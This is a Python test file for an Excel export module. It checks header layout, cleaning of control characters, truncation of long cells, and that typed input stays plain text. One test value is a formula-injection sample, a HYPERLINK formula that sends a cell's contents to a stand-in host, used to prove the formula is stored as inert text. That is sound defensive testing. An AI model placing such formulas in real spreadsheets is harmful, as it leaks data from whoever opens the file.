"""A workbook for Excel holds words: nothing typed is worked out, dropped, or makes the file unreadable."""

import io
import zipfile
from datetime import date, datetime, timedelta, timezone

import openpyxl

from safeguarding import workbook

AT = datetime(2026, 8, 27, 9, 30, tzinfo=timezone(timedelta(0)))
FORMULA = '=HYPERLINK("http://demo.example/?"&A1)'


def sheet_of(rows, heads=("Who", "What", "When")):
    """The one sheet of a workbook of these rows, read back."""
    content = workbook.write("People", "As at Thursday.", heads, rows)
    return openpyxl.load_workbook(io.BytesIO(content)).active, content


def test_it_says_what_it_is_and_as_at_when_above_bold_heads_that_stay():
    sheet, content = sheet_of([("Zoë", 3, AT)])
    assert [row[0].value for row in sheet["A1:A4"]] == ["People", "As at Thursday.", None, "Who"]
    assert all(cell.font.b for cell in sheet[4])
    assert sheet.freeze_panes == "A5"
    assert sheet.print_title_rows == "$4:$4"
    assert [cell.value for cell in sheet[5]] == ["Zoë", 3, "2026-08-27T10:30+01:00"]
    assert zipfile.ZipFile(io.BytesIO(content)).testzip() is None


def test_a_formula_is_the_words_of_a_formula():
    sheet, content = sheet_of([(FORMULA, "+44", "http://demo.example"), ("007", "", "@x")])
    found = [[cell.value for cell in row] for row in sheet["A5:C6"]]
    assert found == [[FORMULA, "+44", "http://demo.example"], ["007", None, "@x"]]
    assert {cell.data_type for row in sheet["A5:C6"] for cell in row if cell.value} == {"s"}
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_what_no_file_may_hold_is_replaced_and_what_no_cell_can_hold_is_said_to_be_cut():
    sheet, _ = sheet_of([("a\x00b\x1f\uffff", "w" * 40_000, "_x0041_"), (True, date(2026, 8, 27), None)])
    control, long, escaped = (cell.value for cell in sheet[5])
    assert control == "a\ufffdb\ufffd\ufffd"
    assert long == "w" * workbook.LONGEST + workbook.CUT
    assert len(long) < 32_767
    assert escaped == "_x0041_", "what looks like an escape is read as it was typed"
    assert [cell.value for cell in sheet[6]] == ["yes", "2026-08-27", None]


def test_a_sentence_about_the_table_does_not_widen_its_first_column():
    sheet, _ = sheet_of([("Zoë", "x" * 30, ""), ("Only the first rows are here. " * 3,)])
    assert [round(sheet.column_dimensions[letter].width) for letter in "ABC"] == [14, 32, 14]
